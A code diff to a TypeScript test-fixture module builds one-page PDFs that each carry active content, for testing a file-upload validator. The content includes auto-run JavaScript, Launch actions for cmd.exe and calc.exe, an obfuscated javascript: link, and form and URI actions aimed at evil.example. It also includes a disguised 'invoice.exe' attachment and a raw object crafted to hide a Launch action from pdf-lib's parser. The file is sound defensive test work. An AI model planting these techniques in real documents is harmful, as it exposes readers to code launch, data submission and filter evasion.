@@ -1,6 +1,6 @@
 import { crc32, deflateSync } from 'node:zlib';
-import type { PDFDict } from 'pdf-lib';
-import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
+import type { PDFContext, PDFDict, PDFObject, PDFPage, SaveOptions } from 'pdf-lib';
+import { PDFDocument, PDFInvalidObject, PDFName, PDFString, StandardFonts } from 'pdf-lib';
 import sharp from 'sharp';
 
 /**
@@ -58,72 +58,159 @@ export function jpegWithGps(): Promise<Buffer> {
 export const htmlStartingWithPdf = () =>
   Buffer.from('%PDF-1.7\n<html><body><script>alert(document.cookie)</script></body></html>\n');
 
-export type ActivePdf =
-  | 'open-action-script'
-  | 'page-additional-action'
-  | 'document-script'
-  | 'embedded-file'
-  | 'launch-link'
-  | 'javascript-link'
-  | 'encrypted';
+const N = (name: string) => PDFName.of(name);
 
-/** A one-page PDF that parses, carrying one kind of active content. */
-export async function activePdf(kind: ActivePdf): Promise<Buffer> {
+/** Where a hostile PDF puts its content: the document, its one page, and helpers for both. */
+interface Planting {
+  doc: PDFDocument;
+  ctx: PDFContext;
+  page: PDFPage;
+  /** A link annotation covering the page, with these entries (an /A action, /AA, ...). */
+  annotate(entries: Record<string, PDFObject>): void;
+}
+
+const script = (ctx: PDFContext) => ctx.obj({ S: 'JavaScript', JS: PDFString.of('app.alert("pwned")') });
+const webPage = (ctx: PDFContext) => ctx.obj({ S: 'URI', URI: PDFString.of('https://evil.example/collect') });
+const linkTo = (action: (ctx: PDFContext) => PDFDict) => (p: Planting) => p.annotate({ A: action(p.ctx) });
+
+/**
+ * PDFs that parse, each carrying one kind of active content: what runs on its own (any action
+ * at open, close or hover that is not a jump within the document), links that reach for
+ * something other than a web page or an address, embedded content, and files pdf-lib cannot
+ * read whole. Each was stored before pdf-file.ts refused it.
+ */
+const ACTIVE_PDFS = {
+  'open-action-script': ({ doc, ctx }: Planting) =>
+    doc.catalog.set(N('OpenAction'), ctx.register(script(ctx))),
+  'page-additional-action': ({ page, ctx }: Planting) => page.node.set(N('AA'), ctx.obj({ O: script(ctx) })),
+  'document-script': ({ doc, ctx }: Planting) =>
+    doc.catalog.set(
+      N('Names'),
+      ctx.obj({ JavaScript: ctx.obj({ Names: [PDFString.of('init'), ctx.register(script(ctx))] }) }),
+    ),
+  'open-action-web-page': ({ doc, ctx }: Planting) => doc.catalog.set(N('OpenAction'), webPage(ctx)),
+  'open-action-print': ({ doc, ctx }: Planting) =>
+    doc.catalog.set(N('OpenAction'), ctx.obj({ S: 'Named', N: 'Print' })),
+  'open-action-jump-then-web-page': ({ doc, ctx, page }: Planting) =>
+    doc.catalog.set(N('OpenAction'), ctx.obj({ S: 'GoTo', D: [page.ref, 'Fit'], Next: [webPage(ctx)] })),
+  'document-close-web-page': ({ doc, ctx }: Planting) =>
+    doc.catalog.set(N('AA'), ctx.obj({ WC: webPage(ctx) })),
+  'page-open-web-page': ({ page, ctx }: Planting) =>
+    page.node.set(N('AA'), ctx.obj({ O: ctx.register(webPage(ctx)) })),
+  'link-hover-web-page': (p: Planting) => p.annotate({ AA: p.ctx.obj({ E: webPage(p.ctx) }) }),
+  'launch-link': linkTo((ctx) => ctx.obj({ S: 'Launch', F: PDFString.of('cmd.exe') })),
+  'javascript-link': linkTo((ctx) => ctx.obj({ S: 'URI', URI: PDFString.of(' java\tscript:alert(1)') })),
+  'file-link': linkTo((ctx) =>
+    ctx.obj({ S: 'URI', URI: PDFString.of('file:///C:/Windows/System32/calc.exe') }),
+  ),
+  'submit-form-link': linkTo((ctx) =>
+    ctx.obj({ S: 'SubmitForm', F: ctx.obj({ FS: 'URL', F: PDFString.of('https://evil.example/form') }) }),
+  ),
+  'import-data-link': linkTo((ctx) => ctx.obj({ S: 'ImportData', F: PDFString.of('answers.fdf') })),
+  'remote-goto-link': linkTo((ctx) => ctx.obj({ S: 'GoToR', F: PDFString.of('other.pdf'), D: [0, 'Fit'] })),
+  'embedded-goto-link': linkTo((ctx) =>
+    ctx.obj({ S: 'GoToE', T: ctx.obj({ R: 'C', N: PDFString.of('inner.pdf') }) }),
+  ),
+  'other-file-thread-link': linkTo((ctx) => ctx.obj({ S: 'Thread', F: PDFString.of('other.pdf'), D: 0 })),
+  'sound-link': linkTo((ctx) => ctx.obj({ S: 'Sound' })),
+  'movie-link': linkTo((ctx) => ctx.obj({ S: 'Movie', T: PDFString.of('clip') })),
+  'rich-media-annotation': ({ page, ctx }: Planting) =>
+    page.node.set(
+      N('Annots'),
+      ctx.obj([ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'RichMedia', Rect: [0, 0, 100, 100] }))]),
+    ),
+  'embedded-file': async ({ doc }: Planting) => {
+    await doc.attach(Buffer.from('MZ not really a program'), 'invoice.exe', {
+      mimeType: 'application/x-msdownload',
+    });
+  },
+  // A stray value pdf-lib's parser cannot place, so it keeps the object as raw bytes it never
+  // judged; pdf.js skips the value and reads a link that starts a program.
+  'unreadable-object': ({ page, ctx }: Planting) =>
+    page.node.set(
+      N('Annots'),
+      ctx.obj([
+        ctx.register(
+          PDFInvalidObject.of(
+            Buffer.from(
+              '<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /Launch /F (calc.exe) >> 0 >>',
+            ),
+          ),
+        ),
+      ]),
+    ),
+  // pdf-lib cannot encrypt; a trailer that names an encryption dictionary is what readers go by.
+  encrypted: ({ ctx }: Planting) => {
+    ctx.trailerInfo.Encrypt = ctx.register(ctx.obj({ Filter: 'Standard', V: 2, R: 3, Length: 128, P: -4 }));
+  },
+} satisfies Record<string, (planting: Planting) => void | Promise<void>>;
+
+export type ActivePdf = keyof typeof ACTIVE_PDFS;
+export const ACTIVE_PDF_KINDS = Object.keys(ACTIVE_PDFS) as ActivePdf[];
+
+/**
+ * The two ways a PDF is written: objects one by one with a plain cross-reference table, or
+ * packed into compressed object streams with a compressed cross-reference stream, where no
+ * key of a packed object can be found by searching the file's bytes.
+ */
+export const PDF_SERIALISATIONS = {
+  classic: { useObjectStreams: false },
+  'object streams': { useObjectStreams: true },
+} satisfies Record<string, SaveOptions>;
+export type PdfSerialisation = keyof typeof PDF_SERIALISATIONS;
+
+async function onePagePdf(
+  plant: (planting: Planting) => void | Promise<void>,
+  serialisation: PdfSerialisation,
+): Promise<Buffer> {
   const doc = await PDFDocument.create();
   const font = await doc.embedFont(StandardFonts.Helvetica);
   const page = doc.addPage([595, 842]);
   page.drawText('Consent form', { x: 60, y: 760, size: 16, font });
   const ctx = doc.context;
-  const script = () => ctx.obj({ S: 'JavaScript', JS: PDFString.of('app.alert("pwned")') });
-  const link = (action: PDFDict) =>
+  const annotate = (entries: Record<string, PDFObject>) =>
     page.node.set(
-      PDFName.of('Annots'),
-      ctx.obj([ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 595, 842], A: action }))]),
+      N('Annots'),
+      ctx.obj([
+        ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 595, 842], ...entries })),
+      ]),
     );
-  switch (kind) {
-    case 'open-action-script':
-      doc.catalog.set(PDFName.of('OpenAction'), ctx.register(script()));
-      break;
-    case 'page-additional-action':
-      page.node.set(PDFName.of('AA'), ctx.obj({ O: script() }));
-      break;
-    case 'document-script':
-      doc.catalog.set(
-        PDFName.of('Names'),
-        ctx.obj({ JavaScript: ctx.obj({ Names: [PDFString.of('init'), ctx.register(script())] }) }),
-      );
-      break;
-    case 'embedded-file':
-      await doc.attach(Buffer.from('MZ not really a program'), 'invoice.exe', {
-        mimeType: 'application/x-msdownload',
-      });
-      break;
-    case 'launch-link':
-      link(ctx.obj({ S: 'Launch', F: PDFString.of('cmd.exe') }));
-      break;
-    case 'javascript-link':
-      link(ctx.obj({ S: 'URI', URI: PDFString.of(' java\tscript:alert(1)') }));
-      break;
-    case 'encrypted':
-      // pdf-lib cannot encrypt; a trailer that names an encryption dictionary is what readers go by.
-      ctx.trailerInfo.Encrypt = ctx.register(ctx.obj({ Filter: 'Standard', V: 2, R: 3, Length: 128, P: -4 }));
-      break;
-  }
-  return Buffer.from(await doc.save({ useObjectStreams: false }));
+  await plant({ doc, ctx, page, annotate });
+  return Buffer.from(await doc.save(PDF_SERIALISATIONS[serialisation]));
 }
 
-/** A harmless PDF with a link to a web page: links stay allowed. */
-export async function pdfWithWebLink(): Promise<Buffer> {
-  const doc = await PDFDocument.create();
-  const page = doc.addPage([595, 842]);
-  const ctx = doc.context;
-  const action = ctx.obj({ S: 'URI', URI: PDFString.of('https://clinic.example/leaflet') });
-  page.node.set(
-    PDFName.of('Annots'),
-    ctx.obj([ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 100, 100], A: action }))]),
-  );
-  return Buffer.from(await doc.save());
-}
+/** A one-page PDF that parses, carrying one kind of active content. */
+export const activePdf = (kind: ActivePdf, serialisation: PdfSerialisation = 'classic') =>
+  onePagePdf(ACTIVE_PDFS[kind], serialisation);
+
+/**
+ * A harmless PDF: it opens at its page, a page action and a bookmark-like link jump within
+ * it, and links lead to a web page and a mail address. All of it stays allowed.
+ */
+export const pdfWithPlainJumpsAndLinks = (serialisation: PdfSerialisation = 'classic') =>
+  onePagePdf(({ doc, ctx, page }) => {
+    const jump = () => ctx.obj({ S: 'GoTo', D: [page.ref, 'Fit'] });
+    const link = (uri: string) =>
+      ctx.register(
+        ctx.obj({
+          Type: 'Annot',
+          Subtype: 'Link',
+          Rect: [0, 0, 100, 100],
+          A: { S: 'URI', URI: PDFString.of(uri) },
+        }),
+      );
+    doc.catalog.set(N('OpenAction'), ctx.obj([page.ref, 'FitH', 842]));
+    doc.catalog.set(N('AA'), ctx.obj({ WC: jump() }));
+    page.node.set(N('AA'), ctx.obj({ O: ctx.register(jump()) }));
+    page.node.set(
+      N('Annots'),
+      ctx.obj([
+        link('https://clinic.example/leaflet'),
+        link('mailto:desk@clinic.example'),
+        ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 100, 100, 200], A: jump() })),
+      ]),
+    );
+  }, serialisation);
 
 const svg = (body: string) =>
   Buffer.from(
